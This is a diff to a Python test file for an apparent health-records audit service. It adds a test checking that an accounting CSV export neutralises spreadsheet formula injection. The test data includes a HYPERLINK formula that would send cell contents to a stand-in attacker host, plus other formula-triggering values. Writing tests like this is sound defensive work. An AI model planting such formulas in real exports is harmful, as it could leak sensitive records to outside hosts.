@@ -6,7 +6,9 @@ Each FHIR/REST path is driven over HTTP against the test's service; the records 
 from __future__ import annotations
 
 import asyncio
+import csv
 import datetime as dt
+import io
 import json
 import subprocess
 import sys
@@ -607,3 +609,17 @@ def test_a_group_commit_leader_hands_leadership_on_after_max_rounds(runtime):
     assert [r.request_id for r in DisclosureRecord.select().order_by(DisclosureRecord.seq)
             if r.request_id.startswith("feed-")] == [f"feed-{i}" for i in range(40)]
     assert verify(chain_key(runtime))["ok"]
+
+
+def test_the_accounting_csv_writes_no_cell_a_spreadsheet_runs():
+    """A record's query, ids and scope are what an app sent or an EHR answered: a cell beginning with
+    `=`, `+`, `-`, `@` was a formula to the spreadsheet an auditor opens the CSV in."""
+    from audit.accounting import FIELDS, as_csv
+    record = {name: None for name in FIELDS} | {
+        "seq": 7, "action": "search", "query": '=HYPERLINK("https://evil.example/?"&A2,"x")',
+        "patients": ["-1+1", "pat-1"], "resource_ids": ["@SUM(A1)"], "scope": "patient/*.rs"}
+    row = next(csv.reader(io.StringIO(as_csv([record]).splitlines()[1])))
+    cells = dict(zip(FIELDS, row))
+    assert cells["query"] == '\'=HYPERLINK("https://evil.example/?"&A2,"x")'
+    assert cells["patients"] == "'-1+1;pat-1" and cells["resource_ids"] == "'@SUM(A1)"
+    assert cells["seq"] == "7" and cells["scope"] == "patient/*.rs" and cells["jti"] == ""
